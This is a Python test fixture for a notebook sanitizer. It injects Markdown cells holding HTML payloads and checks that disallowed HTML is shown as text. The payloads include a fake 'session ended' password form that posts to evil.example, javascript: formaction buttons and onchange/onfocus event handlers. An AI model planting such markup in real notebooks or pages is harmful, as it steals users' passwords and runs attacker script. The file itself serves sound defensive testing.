"""notebook: a form in a Markdown cell asks the instructor to log in again, and sends what is typed elsewhere.

Status: graded
Points: full
Says: HTML that is not allowed here is shown as text
"""

import json
from pathlib import Path

TEXTS = [
    "Your session has ended.\n\n"
    '<form action="https://evil.example/" method="post">Password: <input type="password" name="EVIL"><button>Log in'
    "</button></form>",
    '<button formaction="javascript:EVIL()">Continue</button>',
    '<input type="image" src="https://evil.example/login.png" formaction="https://evil.example/">',
    '<input type="checkbox" form="EVIL" onchange="EVIL()" checked>',
    "- [ ] EVIL\n- [x] <input formaction='https://evil.example/' type=submit>",
    '<dialog open><b>Log in</b><select onchange="EVIL()"></select></dialog>',
    '<isindex action="javascript:EVIL()" type=submit value=click><keygen autofocus onfocus=EVIL()>',
]


def make(released: dict, folder: Path) -> None:
    for number, text in enumerate(TEXTS):
        released["cells"].append({"cell_type": "markdown", "metadata": {}, "source": text, "id": f"evil{number}"})
    (folder / "regularization.ipynb").write_text(json.dumps(released), encoding="utf-8")
